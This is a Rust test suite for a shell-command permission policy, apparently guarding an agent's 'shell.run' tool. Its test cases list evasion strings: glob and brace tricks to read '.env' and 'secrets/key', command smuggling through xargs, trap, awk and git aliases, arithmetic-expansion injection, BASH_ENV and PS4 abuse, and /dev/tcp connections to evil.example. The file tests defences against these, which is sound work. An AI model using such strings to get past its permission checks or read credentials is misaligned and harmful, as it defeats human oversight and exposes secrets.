//! Lines that say what is forbidden in a way that does not show it.

use std::fs;

use super::lines::Place;
use super::*;

/// Any command, but for some, and no file of `secrets` or of the name `.env`.
fn place() -> (Place, PermissionPolicy) {
    let place = Place::new();
    fs::write(place.root.join(".env"), "").unwrap();
    fs::create_dir(place.root.join("src/secrets")).unwrap();
    let policy = place.policy([
        Rule::allow().tools(["shell.run"]),
        Rule::allow().read_only_commands(),
        Rule::deny().commands(["touch", "git push"]),
        Rule::deny().paths(["secrets", "**/.env"]),
        Rule::deny().hosts(["evil.example"]),
    ]);
    (place, policy)
}

#[test]
fn a_pattern_stands_for_the_files_there_are() {
    let (place, policy) = place();
    place.none_runs(
        &policy,
        &[
            "cat .{env,x}",
            "cat secrets/*",
            "cat .e{nv,}",
            "cat {src/a,secrets/key}",
            "cat .en?",
            "git add *",
            "cat .e*",
            "cat .[e]nv",
            "cat */key",
            "cat se*/key",
            "cat **",
            "cat .e{n*,x}",
            "cat {.env,x}*",
        ],
    );
    place.all(
        &policy,
        Said::Allow,
        &["git add src/a*", "git add s?c", "git add src/{a,b}.rs"],
    );
}

#[test]
fn braces_and_patterns_lead_to_the_same_files() {
    let (place, policy) = place();
    place.none_runs(
        &policy,
        &[
            "cat src/{a,b}*/../../.env",
            "cat src/{a,../.e*}",
            "cat {s*,x}/../.env",
            "cat src/**/../.env",
            "cat src/**/key",
            "cat {src/a,se*}/key",
            "cat --x={a,.env}",
            "cat src/{1..3}.rs",
            "cat [[:print:]]*/key",
            "shopt -s dotglob; cat *",
            "shopt -s dotglob; cat {*,x}",
            "shopt -s nocaseglob; env cat {.E*,x}",
            "shopt -s nocaseglob; xargs -a .E* echo",
        ],
    );
    place.all(
        &policy,
        Said::Deny,
        &["cat {.e*,x}", "cat {src/a,secrets/key}", "cat se{c*,x}/key"],
    );
    place.all(&policy, Said::Allow, &["git add {src/a*,src/b}"]);
}

#[test]
fn a_word_that_nobody_knows_may_be_any_file() {
    let (place, policy) = place();
    place.all(
        &policy,
        Said::Ask,
        &[
            "f=.env; cat $f",
            "f=.en; cat \"${f}v\"",
            "cat $(printf .%s env)",
            "bash -c 'cat \"$1\"' _ \"$(printf .%s env)\"",
            "cat \"$PWD/.env\"",
            "cat ~+/.env",
            "git diff \"src/$x\"",
            "xargs -a \"$f\" echo",
            "cd $X && cat key",
            "cat /proc/self/cwd/.env",
            "cat < /proc/self/cwd/src",
            "cat /dev/fd/../cwd/src",
        ],
    );
    place.all(
        &policy,
        Said::Allow,
        &[
            "git commit -m \"fixes $x\"",
            "git commit -m \"$(cat <<'EOF'\nA title\n\nWhat (it) does.\nEOF\n)\"",
            "echo \"$x\"",
            "git log -3; echo \"exit $?\"",
            "kill $!",
        ],
    );
    place.all(
        &policy,
        Said::Deny,
        &[
            "cat \"$(cat <<'EOF'\n.env\nEOF\n)\"",
            "bash -c 'cat \"$0\"' .env",
            "for f in .env; do cat \"$f\"; done",
        ],
    );
}

#[test]
fn the_words_of_a_wrapper_name_files_too() {
    let (place, policy) = place();
    place.all(
        &policy,
        Said::Deny,
        &[
            "xargs -a .env echo",
            "xargs -a.env echo",
            "xargs --arg-file=secrets/key echo",
            "env -C secrets cat key",
            "env -iC secrets cat key",
            "env --chdir=secrets cat key",
            "pushd secrets && cat key",
        ],
    );
    place.all(
        &policy,
        Said::Allow,
        &[
            "timeout 5 tail src/a",
            "env -C src tail a",
            "xargs -a src/a echo",
        ],
    );
}

#[test]
fn a_line_that_moves_on_is_followed() {
    let (place, policy) = place();
    place.none_runs(
        &policy,
        &[
            "cd src; cat ../.env",
            "cd src && cd .. && cd secrets*; cat key",
            "cd src && cat ../secrets/key",
            "cd src || cat .env",
            "cd src; cd ..; cat secrets/key",
            "cd src; cat .env",
        ],
    );
    place.all(
        &policy,
        Said::Allow,
        &[
            "cd src; tail a",
            "cd src; cd ..; tail src/a",
            "cd src; git log -3",
        ],
    );
}

#[test]
fn what_runs_later_or_elsewhere_is_judged_or_asks() {
    let (place, policy) = place();
    place.all(
        &policy,
        Said::Deny,
        &[
            "trap -- 'to\"\"uch x' EXIT",
            "env - touch x",
            "xargs -rI% touch %",
        ],
    );
    place.all(
        &policy,
        Said::Ask,
        &[
            "bash <<< 'to\"\"uch x'",
            "echo 'to\"\"uch x' | bash",
            "bash /dev/stdin <<< 'to\"\"uch x'",
            "source /dev/stdin <<< 'to\"\"uch x'",
            ". <(echo 'to\"\"uch x')",
            "mapfile -tC 'to\"\"uch x;:' -c1 a <<< x",
            "readarray -C 'to\"\"uch x;:' -c 1 a <<< x",
            "compgen -W '$(to\"\"uch x)'",
            "jobs -x to\"\"uch x",
            "echo push | xargs -rI% git % origin",
            "echo push | xargs -I% -n1 git",
            "git -c alias.p=push p",
            "awk 'BEGIN{system(\"touch x\")}'",
            "git bisect run touch x",
            "npm exec touch",
        ],
    );
    place.all(
        &policy,
        Said::Allow,
        &["bash script.sh", "source venv/activate", "trap -- '' INT"],
    );
}

#[test]
fn what_bash_works_out_asks() {
    let place = Place::new();
    let policy = place.policy([
        Rule::allow().tools(["shell.run"]),
        Rule::deny().commands(["touch"]),
    ]);
    place.all(
        &policy,
        Said::Ask,
        &[
            "RANDOM='a[$(to\"\"uch x)]'",
            "OPTIND='a[$(to\"\"uch x)]' git log",
            "a=-v; b='x[$(to\"\"uch y)]'; [ \"$a\" \"$b\" ]",
            "a=-v; b='x[$(to\"\"uch y)]'; test ! \"$a\" \"$b\"",
            "bash -c '(( $1 ))' _ 'a[$(to\"\"uch x)]'",
            "set -- 'a[$(to\"\"uch x)]'; (( $1 ))",
            "env x='a[$(to\"\"uch y)]' bash -c '((x))'",
            ": 'a[$(to\"\"uch x)]'; (( _ ))",
            "echo 'a[$(to\"\"uch x)]'; [[ $_ -eq 1 ]]",
            "read <<< 'a[$(to\"\"uch x)]'; ((REPLY))",
            "[[ 'a[$(to\"\"uch x)]' =~ .* ]]; ((BASH_REMATCH))",
        ],
    );
    place.all(
        &policy,
        Said::Allow,
        &[
            "[[ $? -eq 0 && $# -gt 1 ]]",
            "x=$(git log -1); [ \"$x\" = y ] || [ 1 -lt \"$x\" ] && echo \"$x\"",
            "OPTIND=1; i=0; ((i++))",
        ],
    );
}

#[test]
fn a_shell_that_runs_nothing_runs_itself() {
    let place = Place::new();
    let policy = place.policy([Rule::allow().commands(["echo"])]);
    place.all(
        &policy,
        Said::Ask,
        &[
            "echo a; BASH_ENV=./x bash -c ''",
            "echo a; PS4='$(x)' bash -xc '[[ 1 ]]'",
        ],
    );
}

#[test]
fn a_device_that_bash_makes_up_is_a_host() {
    let (place, policy) = place();
    place.all(
        &policy,
        Said::Deny,
        &[
            "cat < /dev/tcp/evil.example/80",
            "exec 3<>/dev/udp/evil.example/53",
        ],
    );
    place.all(
        &policy,
        Said::Ask,
        &["cat < /dev/tcp/0x7f.1/80", "cat < /dev/tcp/$H/80"],
    );
    place.all(&policy, Said::Allow, &["cat < /dev/tcp/good.example/80"]);
}
